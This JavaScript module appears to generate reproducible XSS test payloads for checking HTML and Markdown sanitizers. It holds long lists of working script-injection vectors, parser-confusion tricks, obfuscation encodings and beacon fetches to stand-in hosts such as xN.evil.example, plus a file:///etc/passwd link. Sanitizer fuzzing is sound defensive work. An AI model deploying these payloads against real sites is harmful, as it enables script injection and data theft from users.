// SPDX-License-Identifier: AGPL-3.0-or-later
// Attacks on whoever reads a page: vectors x places x disguises, the same for the same seed.
//
// A vector says JS where a script belongs and URL where an address elsewhere belongs. Each payload
// has a number: its script is alert(NUMBER), its address is that of the host xNUMBER.evil.example,
// so that whoever hears it knows which one it was.
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));

/** Numbers from 0 to 1 that a seed repeats (mulberry32). */
export function dice(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

const VECTORS = [
  // scripts
  '<script>JS</script>', '<script src=URL></script>', '<script src="data:text/javascript,JS"></script>', '<script type=module>JS</script>',
  '<script type=module>import "URL"</script>', '<svg><script>JS</script></svg>', '<svg><script href=URL /></svg>', '<svg><script xlink:href="data:,JS" /></svg>',
  '<script>JS//', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>', '<script>import("URL")</script>',
  '<script>fetch("URL")</script>', '<script>document.write("<img src=URL>")</script>', '<script>new Image().src="URL"</script>', '<script>new Worker("data:,JS")</script>',
  // handlers
  '<img src=x onerror=JS>', '<img src=x: onerror="JS">', '<image src=x onerror=JS>', '<svg onload=JS>', '<svg><animate onbegin=JS attributeName=x dur=1s>',
  '<svg><set onbegin=JS attributename=x>', '<svg><discard onbegin=JS>', '<body onload=JS>', '<body onpageshow=JS>', '<html onmousemove=JS>', '<input autofocus onfocus=JS>',
  '<select autofocus onfocus=JS><option>x</select>', '<textarea autofocus onfocus=JS></textarea>', '<details open ontoggle=JS>x</details>',
  '<details class="quote" onclick=JS><summary onclick=JS>y</summary>x</details>', '<video src=x onerror=JS></video>', '<video><source onerror=JS src=x></video>',
  '<audio src=x onerror=JS></audio>', '<marquee onstart=JS>x</marquee>', '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=JS>x', '<p tabindex=1 onfocus=JS>x</p>',
  '<x onclick=JS tabindex=1>x</x>', '<x-y is=x onclick=JS>x</x-y>', '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=JS>x</div>', '<dialog open onclose=JS>x</dialog>',
  '<p onclick=JS>x</p>', '<em onpointerover="JS">x</em>', '<br onclick=JS>', '<ol start="1 onload=JS"><li>x</ol>', '<ol start=1 onclick=JS><li value=x>x</ol>', '<frameset onload=JS><frame src=URL></frameset>',
  '<object data=x onerror=JS></object>', '<link rel=stylesheet href=x onerror=JS>', '<style onload=JS></style>', '<iframe onload=JS></iframe>', '<embed src=x onload=JS>', '<track src=x onerror=JS>',
  // addresses that are scripts
  '<a href="javascript:JS">x</a>', '<a href="JaVaScRiPt:JS">x</a>', '<a href="vbscript:JS">x</a>', '<a href="data:text/html,<script>JS</script>">x</a>', '<a href=javascript:JS target=_self>x</a>',
  '<a href="https://a.example" onmouseover=JS>x</a>', '<a href=\'https://a.example/"onclick="JS\'>x</a>', '<a href="https://a.example/\'><script>JS</script>">x</a>', '<a href="view-source:javascript:JS">x</a>',
  '<a href="//URL">x</a>', '<a href="blob:JS">x</a>', '<a href="https:javascript:JS">x</a>', '<a href="mailto:a@b.example?body=<script>JS</script>">x</a>', '<a href="http://a.example\\"onclick=JS//">x</a>',
  '<svg><a xlink:href="javascript:JS"><text y=20>x</text></a></svg>', '<svg><a id=a><text y=20>x</text><animate attributeName=href values=javascript:JS /></a></svg>', '<math href="javascript:JS">x</math>',
  '<math><a xlink:href="javascript:JS">x</a></math>', '<map name=m><area href="javascript:JS" shape=default></map><img usemap=#m src=x>', '<form action="javascript:JS"><button>x</button></form>',
  '<form><button formaction="javascript:JS">x</button></form>', '<form id=f></form><button form=f formaction="javascript:JS">x</button>', '<input type=image formaction=javascript:JS src=x>',
  '<isindex action=javascript:JS type=submit>', '<iframe src="javascript:JS"></iframe>', '<iframe srcdoc="<script>JS</script>"></iframe>', '<iframe src="data:text/html,<script>JS</script>"></iframe>',
  '<object data="javascript:JS"></object>', '<object data="data:text/html,<script>JS</script>"></object>', '<embed src="javascript:JS">', '<meta http-equiv=refresh content="0;url=javascript:JS">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>JS</script>">', '<base href="javascript:JS//">',
  // markup that is read once more otherwise
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>',
  '<svg></p><style><a id="</style><img src=x onerror=JS>">', '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>', '<template><img src=x onerror=JS></template>',
  '<div><template shadowrootmode=open><img src=x onerror=JS></template></div>', '<title><a title="</title><img src=x onerror=JS>">', '<textarea><a title="</textarea><img src=x onerror=JS>">',
  '<xmp><p title="</xmp><img src=x onerror=JS>">', '<iframe><p title="</iframe><img src=x onerror=JS>">', '<noembed><p title="</noembed><img src=x onerror=JS>">', '<noframes><p title="</noframes><img src=x onerror=JS>">',
  '<style><p title="</style><img src=x onerror=JS>">', '<!--><img src=x onerror=JS>-->', '<!--x--!><img src=x onerror=JS>-->', '<!---><img src=x onerror=JS>', '<!--[if mso]><script>JS</script><![endif]-->',
  '<![CDATA[<img src=x onerror=JS>]]>', '<svg><![CDATA[><img src=x onerror=JS>]]></svg>', '<?xml version="1.0"?><img src=x onerror=JS>', '<? <img src=x onerror=JS> ?>', '<!ENTITY x "<img src=x onerror=JS>">&x;',
  '<svg><foreignObject><iframe srcdoc="<script>JS</script>"></iframe></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'x\' onerror=\'JS\'/></svg>#x">',
  '<svg><style><img src=x onerror=JS></style></svg>', '<plaintext><img src=x onerror=JS>', '<select><style></select><img src=x onerror=JS></style>', '<table><a href="javascript:JS">x<table></a><img src=x onerror=JS>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=JS></annotation-xml></math>', '<listing>&lt;img src=x onerror=JS&gt;</listing>', '&lt;img src=x onerror=JS&gt;', '&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;',
  '<p id="&quot;><img src=x onerror=JS>">x</p>', '<img alt="<script>JS</script>" src=x>', '<img alt=\'"onerror="JS\' src=x>', '<a title=\'"><img src=x onerror=JS>\' href=https://a.example>x</a>',
  // fetches and what leads away
  '<img src=URL>', '<img srcset="URL 1x">', '<picture><source srcset=URL><img src=x></picture>', '<input type=image src=URL>', '<table background=URL><tr><td>x</table>', '<body background=URL>', '<video poster=URL></video>',
  '<audio src=URL></audio>', '<video><track default src=URL></video>', '<iframe src=URL></iframe>', '<object data=URL></object>', '<embed src=URL>', '<link rel=stylesheet href=URL>', '<link rel=preload as=script href=URL>',
  '<link rel=modulepreload href=URL>', '<link rel=prefetch href=URL>', '<link rel=preconnect href=URL>', '<link rel=dns-prefetch href=URL>', '<link rel=icon href=URL>', '<link rel=manifest href=URL>', '<style>@import "URL";</style>',
  '<style>*{background:url(URL)}</style>', '<div style="background:url(URL)">x</div>', '<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>', '<div style="width:expression(JS)">x</div>',
  '<svg><image href=URL /></svg>', '<svg><use href="URL#x" /></svg>', '<svg><feImage href=URL /></svg>', '<base href=URL>', '<form action=URL><input name=x><button>x</button></form>',
  '<a href=https://a.example ping=URL>x</a>', '<meta http-equiv=refresh content="0;url=URL">', '<fencedframe src=URL></fencedframe>', '<portal src=URL></portal>', '<applet code=URL></applet>', '<bgsound src=URL>',
  // names that a script would stumble over, and other people's templates
  '<img name=cookie><form id=location><input name=attributes></form>', '<p id=main class=site>x</p>', '<form id=x><output name=ownerDocument></form>', "{{constructor.constructor('JS')()}}", '{{{body}}}{{#t}}<img src=x onerror=JS>{{/t}}',
  '${JS}<%= JS %>#{JS}', '<link rel=import href=URL>',
];

// What stands around a vector.
const PLACES = [
  ['', ''], ['<p>', '</p>'], ['<pre>', '</pre>'], ['<table><tr><td>', '</td></tr></table>'], ['<ul><li>', '</li></ul>'], ['<a href=https://x.example>', '</a>'], ['<blockquote type=cite>', '</blockquote>'],
  ['<div class=gmail_signature>', '</div>'], ['<b><i><u>', '</b>'], ['<h1>', '</h1>'], ['<details><summary>', '</summary></details>'], ['">', ''], ["'>", ''], ['--></p>', '<!--'], ['</title></textarea></style></script>', ''],
  [']]>', ''], ['</noscript></template></xmp></select>', ''], ['<svg>', '</svg>'], ['<math><mtext>', '</mtext></math>'], ['<svg><foreignObject>', '</foreignObject></svg>'], ['<select><option>', '</select>'], ['<table>', '</table>'],
  ['<p title="', '">x</p>'], ["<a href='", "'>x</a>"], ['<img alt=', ' src=x>'],
];

const pick = (list, roll) => list[Math.floor(roll() * list.length)];
const inTags = (text, change) => text.replace(/<[a-z][^<>]*>/gi, change);

// Each answers the text, disguised.
const DISGUISES = [
  (text, roll) => text.replace(/(<\/?)([a-z]+)|\bon[a-z]+(?==)|\b(?:href|src|javascript)(?=[=:])/gi, (word) => [...word].map((letter) => (roll() < 0.5 ? letter.toUpperCase() : letter)).join('')),
  (text) => inTags(text, (tag) => tag.replace(/ /g, '/')),
  (text, roll) => inTags(text, (tag) => tag.replace(/ /g, pick(['\t', '\n', '\f', '\r\n', ' / ', '\x0b'], roll))),
  (text, roll) => text.replace(/javascript:/gi, pick(['java\tscript:', 'java\nscript:', 'java&#10;script:', 'java&Tab;script:', '&#106;avascript:', '&#x6A avascript:', 'javascript&colon;', '\x01javascript:', ' javascript:', 'javascript&#0;:', 'feed:javascript:', 'java\u00adscript:'], roll)),
  (text) => text.replace(/(on[a-z]+="?|javascript:)JS/gi, '$1\ue000'), // in entities: arm() knows which
  (text) => text.replace(/(on[a-z]+)=JS/gi, '$1="JS"'),
  (text) => text.replace(/(on[a-z]+)=JS/gi, "$1 = 'JS'"),
  (text) => text.replace(/(on[a-z]+)=JS/gi, '$1=`JS`'),
  (text) => text.replace(/<(\w)(\w+)/g, '<$1\0$2'),
  (text) => text.replace(/<(\w)(\w+)/g, '<$1<$1$2>$2'),
  (text) => text.replace(/>$/, ''),
  (text) => text.replace(/</g, '<<'),
  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (text) => text.replace(/</g, '&lt').replace(/>/g, '&gt'),
  (text) => text.replace(/</g, '&#60').replace(/"/g, '&#34'),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/</g, '%3C').replace(/>/g, '%3e'),
  (text, roll) => text.replace(/</g, `<${pick(['\ufeff', '\u200b', '\u202e', ' ', '/', '!', '?', '%'], roll)}`),
  (text) => text.replace(/ (on[a-z]+)/gi, ' x="" x=y/$1'),
  (text) => text.replace(/ (on[a-z]+)/gi, '\u00a0$1'),
  (text) => text.replace(/=/g, '\n=\n'),
  (text) => `${text}${text}`,
  (text) => text.replace(/<(\/?\w+)/g, '<x:$1'),
  (text) => text.replace(/JS/g, "'-JS-'"),
  (text) => `<!--${text}-->${text}`,
  (text) => text.replace(/\//g, '\\'),
];

// What a script may look like, for those who search for one spelling.
const SCRIPTS = ['alert(N)', 'alert(N)', 'alert`N`', "top['al'+'ert'](N)", 'confirm(N)', 'prompt(N)', '(0,alert)(N)', 'setTimeout(alert,0,N)', 'Function(`alert(N)`)()', '[N].map(alert)', 'throw[onerror]=[alert],N', 'eval(atob(`B64`))'];

/** Puts the script and the address of a number into a vector. */
function arm(text, number, script) {
  const say = script.replace('B64', Buffer.from(`alert(${number})`).toString('base64')).replace(/N\b/, number);
  const hidden = [...`alert(${number})`].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');
  return text.replaceAll('\ue000', hidden).replaceAll('JS', () => say).replaceAll('//URL', `//x${number}.evil.example/`).replaceAll('URL', `http://x${number}.evil.example/`);
}

/** { number, vector, text }: each vector as it is and disguised, in each place; distinct. */
export function makePayloads(count, seed) {
  const roll = dice(seed), seen = new Set(), made = [];
  const add = (vector, text, script) => {
    if (made.length >= count || seen.has(text + script)) return;
    seen.add(text + script);
    made.push({ number: made.length + 1, vector, text: arm(text, made.length + 1, script) });
  };
  for (const vector of VECTORS) add(vector, vector, SCRIPTS[0]);
  for (const { payload } of JSON.parse(readFileSync(join(here, '../data/html/dompurify-payloads.json'), 'utf8')))
    add('dompurify', payload, '');
  for (let round = 0; made.length < count && round < 1000; round++)
    for (const vector of VECTORS) {
      const [before, after] = pick(PLACES, roll);
      let text = vector;
      for (let turns = Math.floor(roll() * 3); turns >= 0; turns--) text = pick(DISGUISES, roll)(text, roll);
      add(vector, before + text + after, pick(SCRIPTS, roll));
    }
  return made;
}

// Markdown has ways of its own to make an address or a tag of what was typed.
const MARKDOWN = [
  '[x](ADDRESS)', '[x](<ADDRESS>)', '![x](ADDRESS)', '<ADDRESS>', '[x]: ADDRESS\n\n[x]', '[x](ADDRESS "title\\" onclick=JS")', '[x](https://a.example "\\"onmouseover=JS x=")', '[![x](ADDRESS)](ADDRESS)',
  '[x][y]\n\n[y]: <ADDRESS> \'"><img src=x onerror=JS>\'', '`<img src=x onerror=JS>`', '```"><img src=x onerror=JS>\n<img src=x onerror=JS>\n```', '    <script>JS</script>', '<div>\n<script>JS</script>\n</div>',
  '# <img src=x onerror=JS>', '- <svg onload=JS>', '> <svg onload=JS>', '<!-- <img src=x onerror=JS> -->', '<?php JS ?>', '<![CDATA[ JS ]]>', '<!X <img src=x onerror=JS>>', '&lt;script&gt;JS&lt;/script&gt;', '\\<script>JS\\</script>',
  '[x](https://a.example/"onclick=JS)', "[x](https://a.example/'onclick=JS)", '[x](https://a.example/<script>JS</script>)', 'https://a.example/"onclick=JS', 'www.a.example/\'><img/src=x/onerror=JS>', 'a@b.example?subject="><svg/onload=JS>',
  '[<img src=x onerror=JS>](https://a.example)', '[x](https://a.example)<img src=x onerror=JS>', '![" onerror=JS x="](x)', '![x](x"onerror="JS)', '[a](ADDRESS)[b](ADDRESS)', '~~<del onclick=JS>~~', '| <img src=x onerror=JS> |\n|---|', '[x](\\ADDRESS)',
];
const ADDRESSES = ['javascript:JS', 'JaVaScRiPt:JS', 'javascript&colon;JS', '&#106;avascript:JS', 'java%0ascript:JS', 'java&#10;script:JS', '\u0001javascript:JS', '%6aavascript:JS', 'vbscript:JS', 'data:text/html,<script>JS</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg/onload=JS>', 'file:///etc/passwd', 'blob:JS', '//URL', 'URL', 'https://a.example@evil.example/', 'javascript://a.example/%0aJS', 'feed:javascript:JS', 'https:javascript:JS'];

/** The same for Markdown; one may take several lines, none an empty one at its ends. */
export function makeMarkdown(count, seed) {
  const roll = dice(seed + 1), made = [];
  for (const address of ADDRESSES) for (const vector of MARKDOWN)
    if (vector.includes('ADDRESS') || address === ADDRESSES[0]) made.push(vector.replaceAll('ADDRESS', () => address));
  for (let turn = 0; made.length < count; turn++) made.push(pick(DISGUISES, roll)(made[turn], roll));
  return made.slice(0, Math.max(count, 0)).map((text, at) => ({ number: 900000 + at, text: arm(text, 900000 + at, SCRIPTS[0]) }));
}

/** On one line and without what no line of text may hold: for names, subjects, addresses. */
export const onLine = (text, most) => {
  let line = text.replace(/[\u0000-\u001f\u007f-\u009f]+/g, ' ').trim();
  while (Buffer.byteLength(line) > most) line = [...line].slice(0, -1).join('');
  return line.trim();
};
